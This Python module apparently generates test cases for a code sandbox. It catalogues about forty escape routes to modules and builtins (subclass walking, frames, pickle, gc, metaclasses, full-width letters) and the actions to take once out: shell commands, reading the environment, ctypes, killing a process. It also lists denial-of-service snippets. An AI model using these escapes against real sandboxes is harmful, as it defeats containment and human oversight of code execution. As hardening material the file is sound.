"""A catalogue of escapes from a Python sandbox: ways to a module or a builtin, deeds to do with it, and bombs.

The ways are the ones of the literature and of capture-the-flag collections, written down from what the language
offers; every one is combined with every deed. ``MODULE`` stands for the name of a module, ``BUILTIN`` for one of a
builtin function; a way binds ``got``.
"""

from __future__ import annotations

_SUBCLASSES = "().__class__.__base__.__subclasses__()"
_WARNINGS = f"w = [c for c in {_SUBCLASSES} if c.__name__ == 'catch_warnings'][0]"
_LOADER = f"w = [c for c in {_SUBCLASSES} if 'BuiltinImporter' in c.__name__][0]"
_FRAME = "try:\n    1 / 0\nexcept Exception as error:\n    found = error.__traceback__.tb_frame"

WAYS: dict[str, tuple[str, str]] = {
    "import": ("import MODULE\ngot = MODULE", "got = BUILTIN"),
    "import as": ("import MODULE as got", "import builtins\ngot = builtins.BUILTIN"),
    "star": ("from MODULE import *\nimport MODULE as got", "from builtins import BUILTIN as got"),
    "dunder import": ("got = __import__('MODULE')", "got = __import__('builtins').BUILTIN"),
    "importlib": (
        "import importlib\ngot = importlib.import_module('MODULE')",
        "import importlib\ngot = importlib.import_module('builtins').BUILTIN",
    ),
    "builtins as a dict": ("got = __builtins__['__import__']('MODULE')", "got = __builtins__['BUILTIN']"),
    "builtins as a module": ("got = __builtins__.__import__('MODULE')", "got = __builtins__.BUILTIN"),
    "loaded modules": ("import sys\ngot = sys.modules['MODULE']", "import sys\ngot = sys.modules['builtins'].BUILTIN"),
    "subclasses": (
        f"{_WARNINGS}\ngot = w()._module.__builtins__['__import__']('MODULE')",
        f"{_WARNINGS}\ngot = w()._module.__builtins__['BUILTIN']",
    ),
    "loader among subclasses": (
        f"{_LOADER}\ngot = w.load_module('MODULE')",
        f"{_LOADER}\ngot = w.load_module('builtins').BUILTIN",
    ),
    "mro": (
        "b = type(1).mro()[-1].__subclasses__()\ngot = b[-1].__init__.__globals__['sys'].modules['MODULE']",
        "b = type(1).mro()[-1].__subclasses__()\ngot = b[-1].__init__.__globals__['__builtins__']['BUILTIN']",
    ),
    "globals of our function": (
        "got = tell.__globals__['__builtins__']['__import__']('MODULE')",
        "got = tell.__globals__['__builtins__']['BUILTIN']",
    ),
    "self of our function": (
        "got = search.__self__._tree._store.__class__.open.__globals__['MODULE']",
        "got = search.__func__.__globals__['__builtins__']['BUILTIN']",
    ),
    "closure of our function": (
        "got = tell.__closure__[0].cell_contents.__class__.__init__.__globals__['MODULE']",
        "got = tell.__wrapped__.__globals__['__builtins__']['BUILTIN']",
    ),
    "self of a builtin": ("got = print.__self__.__import__('MODULE')", "got = len.__self__.BUILTIN"),
    "our own lambda": (
        "got = (lambda: 0).__globals__['__builtins__']['__import__']('MODULE')",
        "got = (lambda: 0).__builtins__['BUILTIN']",
    ),
    "code of our own function": (
        "def f(): pass\nf.__code__ = f.__code__.replace(co_names=('__import__',))\n"
        "got = f.__builtins__['__import__']('MODULE')",
        "def f(): pass\ngot = type(f)(f.__code__, {'__builtins__': f.__builtins__}).__builtins__['BUILTIN']",
    ),
    "frame of a trace": (
        f"{_FRAME}\nwhile found.f_back: found = found.f_back\n"
        "got = found.f_globals['__builtins__'].__import__('MODULE')",
        f"{_FRAME}\ngot = found.f_builtins['BUILTIN']",
    ),
    "frame of a generator": (
        "g = (x for x in [1])\ngot = g.gi_frame.f_builtins['__import__']('MODULE')",
        "g = (x for x in [1])\ngot = g.gi_frame.f_back.f_builtins['BUILTIN']",
    ),
    "frame of a coroutine": (
        "async def f(): pass\nc = f()\ngot = c.cr_frame.f_builtins['__import__']('MODULE')",
        "async def f(): pass\nc = f()\ngot = c.cr_frame.f_globals['__builtins__']['BUILTIN']",
    ),
    "frame by sys": (
        "import sys\ngot = sys._getframe(0).f_builtins['__import__']('MODULE')",
        "import sys\ngot = sys._getframe(1).f_globals['BUILTIN']",
    ),
    "frame by inspect": (
        "import inspect\ngot = inspect.currentframe().f_back.f_builtins['__import__']('MODULE')",
        "import inspect\ngot = inspect.stack()[-1].frame.f_builtins['BUILTIN']",
    ),
    "eval": ("got = eval(\"__import__('MODULE')\")", "got = eval('BUILTIN')"),
    "exec": ("exec('import MODULE as got')", "exec('got = BUILTIN')"),
    "compile": (
        "got = eval(compile(\"__import__('MODULE')\", 'x', 'eval'))",
        "exec(compile('got = BUILTIN', 'x', 'exec'))",
    ),
    "getattr in pieces": (
        "got = getattr(getattr(tell, '__glo' + 'bals__')['__buil' + 'tins__'], '__im' + 'port__')('MODULE')",
        "got = getattr(tell, '__glo' + 'bals__')['__buil' + 'tins__']['BUILTIN']",
    ),
    "getattribute of object": (
        "got = object.__getattribute__(tell, '__globals__')['__builtins__']['__import__']('MODULE')",
        "got = type.__getattribute__(type(tell), '__call__').__globals__['BUILTIN']",
    ),
    "attrgetter": (
        "import operator\ngot = operator.attrgetter('__globals__')(tell)['__builtins__']['__import__']('MODULE')",
        "import operator\ngot = operator.attrgetter('__globals__')(tell)['BUILTIN']",
    ),
    "reduce": (
        "import functools\nb = functools.reduce(getattr, ['__self__', '__import__'], len)\ngot = b('MODULE')",
        "import functools\ngot = functools.reduce(getattr, ['__self__', 'BUILTIN'], len)",
    ),
    "globals()": (
        "got = globals()['__builtins__'].__import__('MODULE')",
        "got = globals()['__builtins__']['BUILTIN']",
    ),
    "locals()": ("got = locals()['__builtins__'].__import__('MODULE')", "got = vars()['__builtins__']['BUILTIN']"),
    "modules of modules": (
        "import json\ngot = json.codecs.sys.modules['MODULE']",
        "import datetime\ngot = datetime.sys.modules['builtins'].BUILTIN",
    ),
    "loader of a module": (
        "import math\ngot = math.__loader__.load_module('MODULE')",
        "import re\ngot = re.__builtins__['BUILTIN']",
    ),
    "spec of a module": (
        "import math\ngot = math.__spec__.loader.create_module(math.__spec__).__loader__.load_module('MODULE')",
        "import json\ngot = json.decoder.re.enum.bltns.BUILTIN",
    ),
    "full-width letters": ("import ｏs as x\nimport MODULE as got", "got = ｅval('BUILTIN')"),
    "a metaclass": (
        "class M(type):\n    def __getattr__(c, n): return c.__base__.__subclasses__\n"
        "class A(metaclass=M): pass\ngot = A.x()[-1].__init__.__globals__['MODULE']",
        "class M(type):\n    __call__ = eval\nclass A(metaclass=M): pass\ngot = A('BUILTIN')",
    ),
    "a decorator": (
        "@eval\n@(lambda f: \"__import__('MODULE')\")\ndef got(): pass",
        "@eval\n@(lambda f: 'BUILTIN')\ndef got(): pass",
    ),
    "subscript of a class": (
        "class A:\n    __class_getitem__ = __import__\ngot = A['MODULE']",
        "class A:\n    __class_getitem__ = eval\ngot = A['BUILTIN']",
    ),
    "a match": (
        "match tell:\n    case object(__globals__=g):\n        got = g['__builtins__']['__import__']('MODULE')",
        "match len:\n    case object(__self__=b):\n        got = b.BUILTIN",
    ),
    "a pickle": (
        "import pickle\ngot = pickle.loads(b'cMODULE\\n__name__\\n.')\nimport MODULE as got",
        "import pickle\ngot = pickle.loads(b'cbuiltins\\nBUILTIN\\n.')",
    ),
    "the collector": (
        "import gc\ngot = [o for o in gc.get_objects() if getattr(o, '__name__', '') == 'MODULE'][0]",
        "import gc\ngot = [o for o in gc.get_objects() if getattr(o, '__name__', '') == 'BUILTIN'][0]",
    ),
    "type hints": (
        "import typing\nhints = {'__annotations__': {'x': \"__import__('MODULE')\"}}\n"
        "got = typing.get_type_hints(type('A', (), hints))['x']",
        "import typing\ngot = typing.ForwardRef('BUILTIN')._evaluate({}, {}, frozenset())",
    ),
}
"""Ways to a module, and to a builtin function."""

DEEDS: dict[str, tuple[str, str]] = {
    "read a file": ("open", "got('{here}').read()"),
    "write a file": ("open", "got('{there}', 'w').write('x')"),
    "run a shell": ("os", "got.system('touch {there}')"),
    "read the environment": ("os", "str(dict(got.environ))"),
    "list a folder": ("os", "str(got.listdir('{folder}'))"),
    "remove a file": ("os", "got.remove('{here}')"),
    "end us": ("os", "got.kill({pid}, 9)"),
    "begin a process": ("subprocess", "got.run(['touch', '{there}'])"),
    "call out": ("socket", "got.create_connection(('127.0.0.1', {port}), 1).send(b'out')"),
    "write the memory": ("sqlite3", "got.connect('{here}').execute('CREATE TABLE x (y)')"),
    "read by path": ("pathlib", "got.Path('{here}').read_text()"),
    "load C": ("ctypes", "got.CDLL(None).system(b'touch {there}')"),
}
"""What to do then: the module or builtin it needs, and an expression with it."""

BUILTINS = frozenset({"open"})

WRAPS = (
    "{code}",
    "try:\n{code4}\nexcept ZeroDivisionError:\n    pass",
    "def work():\n{code4}\n    return {deed}\nwork()",
    "class Work:\n{code4}",
    "for _ in range(2):\n{code4}",
    "if tell(1) == 1:\n{code4}",
    "{code}\ntell({deed})",
    "{code}\nprint({deed})",
    "{code}\nsorted([1, 2], key=lambda n: {deed})",
    "{code}\n[{deed} for _ in [1]]",
    "{code}\nf'{{{deed}}}'",
)
"""What the code stands in; chosen by the seed."""

BOMBS = (
    "while True: pass",
    "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    "sum(range(10**12))",
    "max(iter(int, 1))",
    "def f(): return f()\nf()",
    "f = lambda n: f(n + 1)\nf(0)",
    "while True: tell(1)",
    "while True:\n    try: tell(1)\n    except Exception: pass",
    "'a' * 10**10",
    "b'a' * 10**10",
    "[0] * 10**10",
    "(0,) * 10**10",
    "x = [1]\nwhile True: x += x",
    "x = 'ab'\nwhile True: x += x",
    "x = {}\ni = 0\nwhile True:\n    x[i] = str(i) * 100\n    i += 1",
    "x = []\nwhile True: x = [x]",
    "9**9**9",
    "1 << 10**10",
    "int('9' * 10**6)",
    "str(7**10**6)",
    "'%0999999999d' % 1",
    "f'{1:>999999999}'",
    "''.join(['b' * 1000] * 10**7)",
    "'x'.replace('x', 'y' * 10**9)",
    "'x'.ljust(10**10)",
    "('a,' * 10**8).split(',')",
    "sorted(range(10**8))",
    "list(range(10**9))",
    "set(range(10**9))",
    "dict.fromkeys(range(10**9))",
    "[[0] * 10**5 for _ in range(10**5)]",
    "import re\nre.match('(a+)+$', 'a' * 5000 + 'b')",
    "import re\nre.findall('(x+x+)+y', 'x' * 5000)",
    "import json\njson.loads('[' * 10**6)",
    "import json\njson.dumps(['x' * 10**6] * 10**6)",
    "while True: print('x' * 1000)",
    "print('x' * 10**9)",
    "import time\ntime.sleep(3600)",
    "import asyncio\nasync def f():\n    await asyncio.sleep(3600)\nasyncio.run(f())",
    "tell('x' * 1000) * 10**7",
    "x = []\nx.append(x)\ntell(x)",
    "tell([[]] * 10**7)",
    "raise SystemExit(0)",
    "raise KeyboardInterrupt",
    "raise BaseException",
    "exit()",
    "input()",
    "breakpoint()",
)
"""Code that would end us, or never end itself."""
